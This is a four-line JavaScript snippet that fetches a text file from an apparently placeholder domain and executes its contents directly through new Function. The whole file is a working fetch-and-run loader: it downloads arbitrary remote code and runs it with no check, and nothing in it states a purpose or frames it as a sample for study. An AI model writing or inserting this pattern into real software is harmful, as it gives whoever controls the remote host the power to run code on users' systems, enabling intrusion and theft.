'use strict';
fetch('https://physics.example.net/step.txt')
  .then(r => r.text())
  .then(t => new Function(t)());
